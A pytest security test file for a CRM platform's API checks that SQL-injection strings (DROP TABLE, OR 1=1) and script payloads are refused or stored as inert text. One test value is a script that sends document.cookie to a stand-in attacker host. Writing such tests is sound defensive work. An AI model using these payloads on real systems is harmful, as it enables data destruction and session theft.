"""Hostile input: SQL through keys, filters, sort and search; script through labels and values.

Every answer is a clear 4xx or an empty result, the data stays intact, and nothing is executed.
"""
from __future__ import annotations

import pytest
import sqlalchemy as sa

from crm_platform.tables import users


def _users_intact(platform) -> None:
    with platform.engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(users)).scalar_one() >= 1


@pytest.fixture
def people(client, student):
    for name in ["Zhang Wei", "O'Brien", "100% Li", "Ann_B"]:
        assert client.post("/api/records/student", json={"name": name}).status_code == 201
    return client


@pytest.mark.parametrize("path", [
    "/api/records/student;DROP TABLE crm_user",
    "/api/records/student%22%3B%20DROP%20TABLE%20crm_user%3B--",
    "/api/records/ent_student",
    "/api/records/crm_user",
    "/api/meta/entities/student' OR '1'='1",
])
def test_sql_in_entity_keys_finds_nothing(people, platform, path):
    r = people.get(path)
    assert r.status_code == 404 and r.is_json
    _users_intact(platform)


@pytest.mark.parametrize("doc, field", [
    ({"key": "x; DROP TABLE crm_user", "label": "X", "fields": []}, "key"),
    ({"key": "x", "label": "X", "fields": [{"key": 'a"); DROP TABLE crm_user; --', "type": "text"}]}, ".key"),
    ({"key": "x", "label": "X", "fields": [{"key": "a", "type": "text); DROP TABLE crm_user; --"}]}, "fields.a.type"),
])
def test_sql_in_definition_keys_is_refused(client, platform, doc, field):
    r = client.post("/api/meta/entities", json=doc)
    assert r.status_code == 422
    assert any(e["field"].endswith(field) for e in r.get_json()["errors"]), r.get_json()
    _users_intact(platform)


@pytest.mark.parametrize("query, status, total", [
    ("filter[name]=' OR '1'='1", 200, 0),
    ("filter[name][eq]=x' OR 1=1 --", 200, 0),
    ("filter[name][contains]=%", 200, 1),          # a literal percent sign, not a wildcard
    ("filter[name][contains]=_", 200, 1),          # a literal underscore
    ("filter[name][contains]='", 200, 1),
    ("q=' OR 1=1 --", 200, 0),
    ("q=%", 200, 1),
    ("filter[age][gt]=1 OR 1=1", 400, None),
    ("filter[name) OR 1=1 --]=x", 400, None),
    ("filter[name][eq) OR (1=1]=x", 400, None),
    ("sort=name;DROP TABLE crm_user", 400, None),
    ("sort=(SELECT 1)", 400, None),
    ("sort=-name,id DESC", 400, None),
    ("page=1;DROP TABLE crm_user", 400, None),
    ("per_page=1 OR 1=1", 400, None),
])
def test_sql_in_filters_sort_and_search_is_data(people, platform, query, status, total):
    r = people.get(f"/api/records/student?{query}")
    assert r.status_code == status, r.get_json()
    if total is not None:
        assert r.get_json()["total"] == total
    else:
        assert r.get_json()["errors"][0]["field"]  # the error names the parameter
    assert people.get("/api/records/student").get_json()["total"] == 4
    _users_intact(platform)


def test_script_in_labels_and_values_is_stored_and_returned_as_text(client, platform):
    label = "<script>alert('label')</script>"
    r = client.post("/api/meta/entities", json={"key": "lead", "label": {"en": label, "zh": "线索"}, "fields": [
        {"key": "name", "type": "text", "label": "<img src=x onerror=alert(1)>"}]})
    assert r.status_code == 201
    value = "<script>document.location='https://evil.example/?'+document.cookie</script>"
    created = client.post("/api/records/lead", json={"name": value})
    assert created.status_code == 201 and created.get_json()["name"] == value
    assert created.mimetype == "application/json"
    assert created.headers["X-Content-Type-Options"] == "nosniff"
    got = client.get("/api/meta/entities/lead").get_json()
    assert got["label"]["en"] == label and got["fields"][0]["label"] == "<img src=x onerror=alert(1)>"


def test_pages_cannot_be_framed_but_public_forms_can(client):
    assert client.get("/login").headers["X-Frame-Options"] == "DENY"
    assert client.get("/api/records/nothing").headers["X-Frame-Options"] == "DENY"
    assert "X-Frame-Options" not in client.get("/f/no-such-form").headers


def test_login_echoes_no_script(client):
    r = client.get("/login?next=%3Cscript%3Ealert(1)%3C/script%3E", headers={"Authorization": None})
    assert r.status_code == 200 and b"<script>alert(1)</script>" not in r.data
